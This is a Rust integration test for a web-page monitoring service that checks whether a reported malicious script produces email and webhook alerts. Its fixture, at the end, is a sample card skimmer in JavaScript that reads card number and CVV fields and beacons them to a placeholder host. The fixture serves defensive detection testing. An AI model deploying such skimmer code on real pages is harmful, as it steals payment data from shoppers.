//! From a report to people, with receivers that others wrote: a mail server (aiosmtpd) and a library of Standard Webhooks.
//! `PAGEWARDEN_PYTHON` names an interpreter that has both.
#![allow(
    clippy::unwrap_used,
    clippy::print_stdout,
    reason = "what is not as expected fails the test; what was skipped is said"
)]

use std::io::{BufRead as _, BufReader, Write as _};
use std::process::{Child, ChildStdout, Command, Stdio};
use std::time::{Duration, Instant};

use axum::body::Body;
use axum::http::{Request, StatusCode};
use serde_json::{Value, json};
use service::{Config, Service};
use tower::ServiceExt as _;

/// Receivers in another process, that ends with this value.
struct Receivers {
    child: Child,
    lines: BufReader<ChildStdout>,
}

impl Receivers {
    fn start(python: &str) -> Self {
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/sdk/receive.py");
        let mut child = Command::new(python).args([script, SECRET]).stdout(Stdio::piped()).spawn().unwrap();
        let lines = BufReader::new(child.stdout.take().unwrap());
        Self { child, lines }
    }

    /// What arrives next.
    fn next(&mut self) -> Value {
        let mut line = String::new();
        self.lines.read_line(&mut line).unwrap();
        serde_json::from_str(&line).unwrap_or_else(|error| panic!("{error}: {line}"))
    }
}

impl Drop for Receivers {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The key of the standard's own examples.
const SECRET: &str = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";

#[tokio::test(flavor = "multi_thread")]
async fn a_malicious_script_reaches_a_mailbox_and_a_webhook() {
    let Ok(python) = std::env::var("PAGEWARDEN_PYTHON") else {
        println!("skipped: PAGEWARDEN_PYTHON is not set");
        return;
    };
    let mut receivers = Receivers::start(&python);
    let ports = receivers.next();
    let folder = tempfile::tempdir().unwrap();
    let secret = |name: &str, text: &str| {
        let path = folder.path().join(name);
        std::fs::File::create(&path).unwrap().write_all(text.as_bytes()).unwrap();
        path
    };
    let url = secret("url", &format!("http://127.0.0.1:{}/hook", ports["http"]));
    let key = secret("key", SECRET);
    let mut config = Config::parse(&format!(
        "[[alerts.routes]]\nname = 'hook'\nto = {{ webhook = {{ url = {{ file = {url:?} }}, secret = {{ file = {key:?} }} }} }}\n\
         [[alerts.routes]]\nname = 'mail'\n[alerts.routes.to.email]\nserver = '127.0.0.1'\nport = {}\nsecurity = 'none'\n\
         from = 'watch@shop.example'\nto = ['security@shop.example']\n",
        ports["smtp"]
    ))
    .unwrap();
    config.state = folder.path().join("state");
    let service = Service::open(config).unwrap();
    let began = Instant::now();
    let seen = json!({
        "kind": "script", "url": "https://cdn.widget.example/w.js", "page_url": "https://shop.example/pay", "text": SKIMMER,
    });
    let request = Request::post("/observe/shop")
        .header("authorization", format!("Bearer {}", service.new_token().unwrap()))
        .body(Body::from(format!("{seen}\n{seen}\n{seen}\n")))
        .unwrap();
    assert_eq!(service.router().oneshot(request).await.unwrap().status(), StatusCode::OK);
    let (mail, hook) = tokio::task::spawn_blocking(move || {
        let (mut mail, mut hook) = (None, None);
        while mail.is_none() || hook.is_none() {
            let came = receivers.next();
            match came["came"].as_str() {
                Some("mail") => mail = Some(came),
                _ => hook = Some(came),
            }
        }
        (mail.unwrap(), hook.unwrap())
    })
    .await
    .unwrap();
    println!("both arrived {} ms after the report", began.elapsed().as_millis());
    assert_eq!(mail["to"], json!(["security@shop.example"]));
    assert_eq!(mail["kinds"], json!(["multipart/alternative", "text/plain", "text/html"]));
    assert!(
        mail["subject"].as_str().unwrap().starts_with("[shop] A script is malicious by its code: "),
        "{mail}"
    );
    assert!(mail["text"].as_str().unwrap().contains("on https://shop.example/pay"), "{mail}");
    assert_eq!(hook["payload"]["alerts"][0]["alert"], "malicious_script", "{hook}");
    tokio::time::timeout(Duration::from_secs(30), service.stop()).await.unwrap();
}

/// Sends nothing: the host does not exist, and nobody runs it.
const SKIMMER: &str = "document.querySelector('#pay').addEventListener('click', function () {\
    var number = document.querySelector('input[name=cardnumber]').value;\
    var code = document.querySelector('input[name=cvv]').value;\
    navigator.sendBeacon('https://stats.collect.invalid/p', btoa(number + '|' + code));\
});";
